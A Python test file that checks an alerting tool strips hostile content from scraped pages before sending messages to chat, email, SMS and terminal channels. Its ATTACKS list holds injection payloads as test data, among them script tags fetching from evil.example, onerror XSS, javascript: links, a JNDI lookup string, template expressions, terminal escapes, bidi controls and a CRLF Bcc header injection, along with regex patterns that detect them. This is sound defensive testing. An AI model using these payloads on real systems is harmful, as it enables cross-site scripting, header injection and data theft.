"""A page written to attack, in every kind of channel: nothing of it acts, nothing breaks, and readers still read it."""

import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from html import unescape
from pathlib import Path
from urllib.parse import parse_qs

import pytest
from bs4 import BeautifulSoup
from changes import MIRROR, PAGE, a_change, a_figure, a_revision, an_act
from markdown_it import MarkdownIt
from receivers import Received, chromium, mailbox, webhook

from alerts.channel import Channel
from alerts.fitting import divided
from alerts.render import Alert, alert
from alerts.send import room, send
from alerts.telling import Telling
from measures.model import Change

ATTACKS = (
    "<script>fetch('http://evil.example/a')</script><img src=x onerror=alert(1)><a href='http://evil.example'>x</a>",
    "*bold* _slanted_ ~gone~ ||hidden|| `code` # head\n# heading\n> quote\n- item\n1. one\n```\nblock",
    "[link](http://evil.example/b) [l](//evil.example) [l]: http://evil.example ![pic](http://evil.example/c.png)",
    "<http://evil.example> https://evil.example/d www.evil.example mailto:a@evil.example javascript:alert(1)",
    "@everyone @here @channel @room @all @desk:evil.example <!channel> <!here|here> <@U123> <@&99> <#C12> @**all**",
    '<at user_id="all">all</at> <at>Desk</at> &lt;script&gt; &#60;b&#62; &amp;lt; %3Cb%3E',
    "{{ 7*7 }} {% for x in y %} ${jndi:ldap://evil.example} #{7*7} {{app_body}} {} {0} %s %(name)s",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fright \u200bzero\ufeff \U000e0041tag \ue000own",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x07 \x08 \x00 \x9b31m \x7f",
    "half \ud800 a character \udc00, :100: :tada: 1:100:2 \\u0041 \\n \\x41",
    "a\r\nBcc: all@evil.example\r\n\r\nb\x0bc\x0cd\x85e\u2028f\u2029g",
)
ALL = " ¶ ".join(ATTACKS)


def attack(said: str = ALL) -> Change:
    """A change of which every text that a page gives attacks."""
    page = replace(PAGE, title=said, publisher=said, url="https://english.scio.gov.cn/a/1.html?q=<script>&x=\"'>[](b)")
    other = replace(MIRROR, title=said, url="javascript:fetch('http://evil.example')")
    statement = a_figure(quote=said, label=said[:150], speaker=said)
    told = a_revision(statement=statement, origin=page, title=said, sentence=said, reason=said)
    return replace(told, also=(other,))


def worded(*changes: Change) -> Alert:
    return alert(changes, Telling(team=ALL))


HOSTILE = worded(attack(), a_change(an_act(title=ALL, actors=(ALL,), timeframe=ALL, quote=ALL), id=2))
TAME = worded(attack("words"), a_change(an_act(title="words", actors=("x",), timeframe="y", quote="words"), id=2))
OURS = ("https://english.scio.gov.cn/", "https://www.miit.gov.cn/", "https://example.org/")

STEERING = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u200c-\u200f\u2028-\u202f\u2060-\u206f"
    "\ud800-\udfff\ue000-\uf8ff\ufeff\U000e0000-\U000e0fff]"
)
ACTING = re.compile(
    r"@(everyone|here|channel|room|all|desk|\*)|evil\.example|<(script|img|a href|at\b|!|@|#)|://evil|\]\(/?/?evil|:100:",
    re.IGNORECASE,
)


def assert_still(text: str) -> None:
    """No control, no mention, no address and no tag of the page is in a text as a service gets it."""
    assert not STEERING.search(text.replace("\r\n", "\n"))
    assert not ACTING.search(text)


def links(html: str) -> set[str]:
    """Where the links of a text lead; those of an address that is none lead nowhere."""
    return {str(at["href"]) for at in BeautifulSoup(html, "html.parser").find_all("a")} - {""}


def tags(html: str) -> set[str]:
    return {at.name for at in BeautifulSoup(html, "html.parser").find_all()}


def as_text(text: str) -> None:
    assert_still(text)


def as_markdown(text: str) -> None:
    """A reader with all that markdown can do sees our bold headlines, quotes, code and links, and no more."""
    assert_still(text)
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    assert tags(html) <= {"p", "strong", "blockquote", "code", "a", "br", "hr", "h1", "h2", "h3"}
    assert all(link.startswith(OURS) for link in links(html))


def as_slack(text: str) -> None:
    assert_still(text)
    assert all(inside.startswith((*OURS, "|")) for inside in re.findall(r"<([^>]*)>", text))


def as_html(html: str) -> None:
    assert tags(html) <= {"p", "strong", "b", "blockquote", "code", "a", "br", "hr", "h1", "h2", "h3"}
    assert all(link.startswith(OURS) for link in links(html))
    assert_still(re.sub(r"<[^>]*>", "", html))


@dataclass(frozen=True)
class Kind:
    """A kind of channel: its address, where its plugin is pointed if its host is fixed, what arrives, how it reads."""

    name: str
    address: str
    text: Callable[[Received], str]
    reads: Callable[[str], None]
    host: tuple[str, str] = ("", "")
    title: Callable[[Received], str] = lambda _: ""


def field(*path: str | int) -> Callable[[Received], str]:
    def found(got: Received) -> str:
        value = got.json
        for name in path:
            value = value[name]
        return str(value)

    return found


def title_if_any(got: Received) -> str:
    """The title, which a message that is told in its short form has none of: it would be told twice."""
    return str(got.json.get("title", ""))


def form(name: str) -> Callable[[Received], str]:
    return lambda got: parse_qs(got.body.decode())[name][0]


TOKEN = "t" * 24
KINDS = (
    Kind("ntfy", "ntfy://HOST/desk", field("message"), as_markdown, title=title_if_any),
    Kind("gotify", f"gotify://HOST/{TOKEN}", field("message"), as_markdown, title=field("title")),
    Kind("mattermost", f"mmost://HOST/{TOKEN}", field("text"), as_markdown),
    Kind("rocket.chat", f"rocket://{TOKEN}/{TOKEN}@HOST/#desk", field("text"), as_markdown),
    Kind("matrix", "matrix://token@HOST/!desk:example.org?mode=off", field("formatted_body"), as_html),
    Kind("matrix, plain", "matrix://token@HOST/!desk:example.org?mode=off", field("body"), as_text),
    Kind("form", "form://HOST/hook", form("message"), as_text, title=form("title")),
    Kind("json", "json://HOST/hook", field("message"), as_text, title=field("title")),
    Kind("signal", "signal://HOST/12345678901/12345678902", field("message"), as_text),
    Kind("nextcloud talk", "nctalk://me:pw@HOST/room", field("message"), as_text),
    Kind("home assistant", f"hassio://HOST/{TOKEN}", field("message"), as_text, title=field("title")),
    Kind(
        "slack",
        f"slack://T1JJ3T3L2/A1BRTD4JD/{TOKEN}/",
        field("attachments", 0, "text"),
        as_slack,
        ("slack.NotifySlack.webhook_url", "http://HOST/services"),
        field("attachments", 0, "title"),
    ),
    Kind(
        "discord",
        f"discord://{'1' * 18}/{'d' * 60}",
        field("content"),
        as_markdown,
        ("discord.NotifyDiscord.notify_url", "http://HOST/api/webhooks"),
    ),
    Kind(
        "telegram",
        "tgram://123456789:abcdefg_hijklmnopabcdefghijklmnopab/12315544/",
        field("text"),
        as_html,
        ("telegram.NotifyTelegram.notify_url", "http://HOST/bot"),
    ),
    Kind(
        "google chat",
        f"gchat://workspace/{TOKEN}/{TOKEN}",
        field("text"),
        as_slack,
        ("google_chat.NotifyGoogleChat.notify_url", "http://HOST/v1/spaces/{workspace}/messages"),
    ),
    Kind(
        "sms",
        f"httpsms://{TOKEN}@15551234567/15557654321",
        field("content"),
        as_text,
        ("httpsms.NotifyHttpSMS.notify_url", "http://HOST/send"),
    ),
)


def received(kind: Kind, told: Alert, monkeypatch: pytest.MonkeyPatch) -> Received:
    with webhook() as service:
        host = f"127.0.0.1:{service.port}"
        if kind.host[0]:
            monkeypatch.setattr(f"apprise.plugins.{kind.host[0]}", kind.host[1].replace("HOST", host))
        receipt = send(Channel("sme.chat", kind.address.replace("HOST", host)), told, key="k-1")
        assert receipt.ok, receipt
        (got,) = service.received
    return got


def fitting(kind: Kind, *changes: Change) -> Alert:
    """The first part of a message as it is sent to a kind of channel."""
    place = room(Channel("sme.chat", kind.address.replace("HOST", "127.0.0.1")))
    return worded(*divided(changes, lambda some: worded(*some), place)[0])


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_nothing_of_a_page_acts(kind: Kind, monkeypatch: pytest.MonkeyPatch) -> None:
    for said in (*ATTACKS, ALL):
        got = received(kind, fitting(kind, attack(said)), monkeypatch)
        kind.reads(kind.text(got))
        assert_still(kind.title(got))
        assert got.headers["x-gongbao-key"] == "k-1"


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_readers_still_read_it_and_find_our_link(kind: Kind, monkeypatch: pytest.MonkeyPatch) -> None:
    text = kind.text(received(kind, worded(a_revision()), monkeypatch))
    assert "14,600 robot enterprises" in unescape(text)
    assert kind.name == "matrix, plain" or PAGE.url in text


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_a_sentence_of_a_million_characters_is_cut(kind: Kind, monkeypatch: pytest.MonkeyPatch) -> None:
    said = "长" * 500_000 + "@everyone " * 50_000
    endless = a_revision(statement=a_figure(quote=said, label=said, speaker=said), title=said, sentence=said)
    began = time.process_time()
    got = received(kind, fitting(kind, endless), monkeypatch)
    assert len(got.body) < (900_000 if kind.name == "json" else 40_000)
    assert time.process_time() - began < 5


def test_a_webhook_gets_the_page_as_it_is_but_as_data() -> None:
    with webhook() as hook:
        assert send(Channel("d.hook", f"json://127.0.0.1:{hook.port}/"), HOSTILE, key="k").ok
    (got,) = hook.received
    assert json.dumps(got.json, ensure_ascii=False).encode(), "half a character has no bytes"
    assert "<script>" in got.json["changes"][0]["sentence"]


def test_the_terminal_shows_no_control_of_a_page(capsys: pytest.CaptureFixture[str]) -> None:
    assert send(Channel("readers.terminal", "terminal://"), HOSTILE, key="k").ok
    out = capsys.readouterr().out
    assert not STEERING.search(out)
    assert "evil.example" not in out


def dom(folder: Path, html: str) -> BeautifulSoup:
    """What a browser makes of a page."""
    (folder / "mail.html").write_text(html, encoding="utf-8")
    return BeautifulSoup(chromium(folder, "--dump-dom", (folder / "mail.html").as_uri()), "html.parser")


def structure(page: BeautifulSoup) -> tuple[list[str], set[str]]:
    """The elements of a page, but for words in bold, and the names of their attributes."""
    elements = [at for at in page.find_all() if at.name != "b"]
    return [at.name for at in elements], {name for at in elements for name in at.attrs}


@pytest.fixture
def evil() -> Iterator[str]:
    """A host that notes who asks for something of it."""
    with webhook() as host:
        yield f"127.0.0.1:{host.port}"
        assert not host.received, "a message made a reader's program ask for what a page named"


def test_a_browser_finds_nothing_of_the_page_in_a_mail_but_text(tmp_path: Path, evil: str) -> None:
    with mailbox() as post:
        for told in (HOSTILE, TAME):
            said = replace(told, html=told.html.replace("evil.\u200bexample", evil).replace("evil.example", evil))
            assert send(Channel("sme.mail", post.apprise()), said, key="k").ok
    bodies = [str(part.get_content()) for mail in post.mails if (part := mail.get_body(("html",)))]
    hostile, tame = (dom(tmp_path, body) for body in bodies)
    assert structure(hostile) == structure(tame)
    assert all(link.startswith(OURS) for link in links(str(hostile)))
    assert not hostile.find_all(["script", "img", "iframe", "object", "link", "form"])
    assert "alert(1)" in hostile.get_text()
    plain = post.mails[0].get_body(("plain",))
    assert plain is not None
    assert_still(str(plain.get_content()))
